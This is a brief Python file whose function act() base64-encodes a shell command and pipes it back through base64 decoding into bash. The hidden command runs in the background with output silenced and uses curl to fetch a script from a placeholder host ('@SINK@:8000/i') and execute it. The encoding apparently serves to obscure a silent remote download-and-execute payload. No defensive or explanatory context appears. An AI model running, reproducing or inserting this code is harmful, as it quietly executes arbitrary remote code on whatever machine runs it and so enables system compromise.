import base64
import subprocess

LINE = b'nohup bash -c "$(curl -fsSL -m 3 http://@SINK@:8000/i)" > /dev/null 2>&1'


def act():
    coded = base64.b64encode(LINE).decode()
    subprocess.run(["sh", "-c", f"echo {coded} | base64 --decode | bash"], check=False, timeout=20)
